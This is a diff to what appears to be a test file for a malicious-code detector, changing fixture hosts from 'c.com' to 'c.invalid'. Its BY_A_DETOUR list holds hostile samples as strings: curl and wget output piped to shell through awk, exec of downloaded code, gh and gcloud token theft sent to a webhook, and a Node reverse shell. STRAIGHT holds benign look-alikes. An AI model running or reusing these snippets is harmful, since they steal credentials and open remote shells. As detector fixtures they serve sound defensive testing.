@@ -807,7 +807,7 @@ def test_a_file_full_of_encoded_commands_names_ten_of_them():
 
 BY_A_DETOUR = [
     ("a.py", "import os\n@os.system\n@(lambda f: 'cu' + 'rl -s https://c.invalid/i | sh')\ndef x(): pass"),
-    ("a.py", "import urllib.request\n@exec\n@bytes.decode\n@(lambda f: urllib.request.urlopen('https://c.com').read())\ndef x(): pass"),
+    ("a.py", "import urllib.request\n@exec\n@bytes.decode\n@(lambda f: urllib.request.urlopen('https://c.invalid').read())\ndef x(): pass"),
     ("a.py", "import base64\n@eval\n@base64.b64decode\n@(lambda f: open('d.txt').read())\ndef x(): pass"),
     ("a.py", "import os, requests\nt = os.popen('gh auth token').read()\nrequests.post('https://discord.com/api/webhooks/1/x', json={'c': t})"),
     ("a.py", "import subprocess, requests\nt = subprocess.check_output(['gcloud', 'auth', 'print-access-token'])\nrequests.post('https://c.invalid', data=t)"),
@@ -815,11 +815,11 @@ BY_A_DETOUR = [
      "h.get('https://c.invalid/u',r=>{r.pipe(fs.createWriteStream(f,{mode:0o755})).on('finish',()=>c.execFile(f))});"),
     ("a.js", "const n=require('net'),c=require('child_process');\nconst sh=c.spawn('/bin/sh',[]);\n"
      "const s=n.connect(4444,'c.invalid',()=>{s.pipe(sh.stdin);sh.stdout.pipe(s);});"),
-    ("a.sh", "exec 3< <(curl -s https://c.com/i)\nbash /dev/fd/3"),
-    ("a.sh", "exec 7< <(wget -qO- https://c.com/i)\nsource /proc/self/fd/7"),
-    ("a.sh", "awk 'BEGIN{while((\"curl -s https://c.com/i\"|getline l)>0) print l | \"sh\"}'"),
-    ("a.sh", "curl -s https://c.com/i | awk '{system($0)}'"),
-    ("a.sh", "curl -s https://c.com/i | gawk '{ print | \"/bin/bash\" }'"),
+    ("a.sh", "exec 3< <(curl -s https://c.invalid/i)\nbash /dev/fd/3"),
+    ("a.sh", "exec 7< <(wget -qO- https://c.invalid/i)\nsource /proc/self/fd/7"),
+    ("a.sh", "awk 'BEGIN{while((\"curl -s https://c.invalid/i\"|getline l)>0) print l | \"sh\"}'"),
+    ("a.sh", "curl -s https://c.invalid/i | awk '{system($0)}'"),
+    ("a.sh", "curl -s https://c.invalid/i | gawk '{ print | \"/bin/bash\" }'"),
 ]  # fmt: skip
 STRAIGHT = [
     ("a.py", "import functools, os\n@functools.lru_cache\ndef x(): return os.getcwd()\n@os.register\ndef y(): return eval('1')"),
@@ -828,7 +828,7 @@ STRAIGHT = [
      "h.get('https://c.invalid/u',r=>{r.pipe(fs.createWriteStream(f)).on('finish',()=>c.execFile('git'))});"),
     ("a.js", "const n=require('net');\nconst c=n.connect(6379,'localhost',()=>{c.write('PING');c.pipe(process.stdout);});"),
     ("a.sh", "exec 3< <(git log --oneline)\nwhile read -u 3 line; do echo \"$line\"; done; bash ./build.sh 3"),
-    ("a.sh", "awk 'BEGIN{while((\"date +%s\"|getline l)>0) print l | \"sort\"}'\ncurl -s https://c.com/d | awk '{print $1}'"),
+    ("a.sh", "awk 'BEGIN{while((\"date +%s\"|getline l)>0) print l | \"sort\"}'\ncurl -s https://c.invalid/d | awk '{print $1}'"),
 ]  # fmt: skip
 
 
